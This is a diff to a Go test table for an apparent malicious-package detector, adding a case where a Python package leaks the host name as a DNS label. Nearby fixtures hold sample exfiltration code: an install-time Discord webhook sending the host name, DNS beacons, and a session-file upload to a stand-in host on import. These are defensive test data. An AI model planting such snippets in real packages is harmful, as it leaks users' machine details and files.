@@ -89,6 +89,7 @@ var ruleCases = []ruleCase{
 	{"local lookup through a name is fine", map[string]string{"p/__init__.py": "import socket\nthis_host = socket.gethostname()\nADDRS = socket.getaddrinfo(this_host, None, proto=socket.IPPROTO_TCP, flags=socket.AI_CANONNAME)\n"}, "", Clean},
 	{"host name sent by discord.py's webhook at install", map[string]string{"setup.py": "import socket\nfrom discord import SyncWebhook\nhook = SyncWebhook.from_url('https://example.invalid/hook')\nhook.send('up on ' + socket.gethostname())\n"}, "exfiltrates-host-info", Malicious},
 	{"discord.py webhook helper is fine", map[string]string{"p/notify.py": "from discord import SyncWebhook\ndef notify(url, text):\n    SyncWebhook.from_url(url).send(text)\n"}, "", Clean},
+	{"host name sent as a label of a domain passed in", map[string]string{"p/__init__.py": "import socket\ndef beacon(dom):\n    socket.gethostbyname(socket.gethostname() + dom)\nbeacon(input())\n"}, "exfiltrates-host-info", Malicious},
 	{"host name sent as a DNS label on import", map[string]string{"p/__init__.py": "import socket\nthis_host = socket.gethostname()\nsocket.gethostbyname(this_host + '.x.example.invalid')\n"}, "exfiltrates-host-info", Malicious},
 	// exfiltrates-files
 	{"session file uploaded on import", map[string]string{"p/__init__.py": "import requests\nwith open('/data/session.db', 'rb') as fh:\n    requests.post('https://example.invalid/c', files={'f': fh})\n"}, "exfiltrates-files", Malicious},
